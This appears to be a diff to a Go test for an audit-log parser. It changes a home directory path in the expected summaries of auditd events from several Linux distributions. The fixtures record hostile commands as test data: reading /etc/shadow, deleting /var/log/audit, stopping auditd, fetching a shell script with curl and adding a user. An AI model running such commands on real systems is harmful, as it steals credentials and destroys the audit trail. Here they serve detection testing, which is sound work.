@@ -56,7 +56,7 @@ func TestDistributions(t *testing.T) {
 			`USER_ACCT acct="alice" addr=192.0.2.7 op=PAM:accounting ok=true (1 records, 1 with names)`,
 			`USER_START acct="alice" addr=192.0.2.7 op=PAM:session_open ok=true (1 records, 1 with names)`,
 			"CONFIG_CHANGE (1 records, 1 with names)", // the kernel's own have no end in a log: later events, or time, end them
-			`exec /usr/bin/grep ["grep" "--color=auto" "model name" "/proc/cpuinfo"] in /home/alice auid=1000 uid=1000 ses=3 missing=0 (6 records, 3 with names)`,
+			`exec /usr/bin/grep ["grep" "--color=auto" "model name" "/proc/cpuinfo"] in /srv/alice auid=1000 uid=1000 ses=3 missing=0 (6 records, 3 with names)`,
 			"LOGIN (1 records, 1 with names)",
 		},
 		"ubuntu-22.04": {
@@ -64,13 +64,13 @@ func TestDistributions(t *testing.T) {
 			`CRED_ACQ acct="alice" addr=2001:db8::7 op=PAM:setcred ok=true (1 records, 1 with names)`,
 			`USER_CMD acct="" addr=invalid IP op= ok=true cmd="cat /etc/shadow" (1 records, 1 with names)`,
 			`ADD_USER acct="eve" addr=invalid IP op=add-user ok=true (1 records, 1 with names)`,
-			`exec /usr/bin/dash ["/bin/sh" "/usr/local/bin/backup job" "--all"] in /home/alice auid=1000 uid=0 ses=5 missing=0 (6 records, 3 with names)`,
+			`exec /usr/bin/dash ["/bin/sh" "/usr/local/bin/backup job" "--all"] in /srv/alice auid=1000 uid=0 ses=5 missing=0 (6 records, 3 with names)`,
 		},
 		"ubuntu-24.04": {
 			`USER_LOGIN acct="(unknown user)" addr=198.51.100.9 op=login ok=false (1 records, 1 with names)`,
 			`USER_END acct="alice" addr=192.0.2.7 op=PAM:session_close ok=true (1 records, 1 with names)`,
 			"call 321 by /usr/lib/systemd/systemd (3 records, 1 with names)",
-			`exec /usr/bin/chmod ["chmod" "+x" "a" "x" "go"] in /home/alice auid=1000 uid=1000 ses=3 missing=0 (6 records, 3 with names)`,
+			`exec /usr/bin/chmod ["chmod" "+x" "a" "x" "go"] in /srv/alice auid=1000 uid=1000 ses=3 missing=0 (6 records, 3 with names)`,
 			"AVC (1 records, 1 with names)",
 		},
 		"rhel-8": {
@@ -78,19 +78,19 @@ func TestDistributions(t *testing.T) {
 			`USER_AUTH acct="oracle" addr=203.0.113.5 op=password ok=false (1 records, 1 with names)`,
 			`USER_LOGIN acct="(invalid user)" addr=203.0.113.5 op=login ok=false (1 records, 1 with names)`,
 			`USER_LOGIN acct="" addr=192.0.2.7 op=login ok=true id="1000" (1 records, 1 with names)`,
-			`exec /usr/bin/curl ["curl" "-s" "http://192.0.2.1/x.sh?a=1&b=2"] in /home/alice auid=1000 uid=1000 ses=3 missing=0 (6 records, 3 with names)`,
+			`exec /usr/bin/curl ["curl" "-s" "http://192.0.2.1/x.sh?a=1&b=2"] in /srv/alice auid=1000 uid=1000 ses=3 missing=0 (6 records, 3 with names)`,
 		},
 		"rhel-9": {
 			"SERVICE_STOP " + unset + ` unit="auditd" (1 records, 1 with names)`,
 			`GRP_MGMT acct="eve" addr=invalid IP op=add-user-to-group ok=true (1 records, 1 with names)`,
 			`USER_CHAUTHTOK acct="eve" addr=invalid IP op=PAM:chauthtok ok=true (1 records, 1 with names)`,
-			"call 42 by /home/alice/ssh2 to 198.51.100.9:22 exit=-115 (3 records, 2 with names)",
-			`exec /usr/bin/rm ["rm" "-rf" "/var/log/audit"] in /home/alice auid=1000 uid=1000 ses=3 missing=0 (6 records, 3 with names)`,
+			"call 42 by /srv/alice/ssh2 to 198.51.100.9:22 exit=-115 (3 records, 2 with names)",
+			`exec /usr/bin/rm ["rm" "-rf" "/var/log/audit"] in /srv/alice auid=1000 uid=1000 ses=3 missing=0 (6 records, 3 with names)`,
 		},
 		"suse-15": {
 			`[sles15] USER_AUTH acct="tux" addr=203.0.113.5 op=PAM:authentication ok=false (1 records, 0 with names)`,
 			`[sles15] USER_ERR acct="" addr=203.0.113.5 op=PAM:bad_ident ok=false (1 records, 0 with names)`,
-			`[sles15] exec /usr/bin/python3.6 ["zypper" "--non-interactive" "in" "nmap"] in /home/alice auid=1000 uid=1000 ses=3 missing=0 (6 records, 0 with names)`,
+			`[sles15] exec /usr/bin/python3.6 ["zypper" "--non-interactive" "in" "nmap"] in /srv/alice auid=1000 uid=1000 ses=3 missing=0 (6 records, 0 with names)`,
 		},
 	} {
 		text, err := os.ReadFile(filepath.Join("testdata", "distributions", name+".log"))
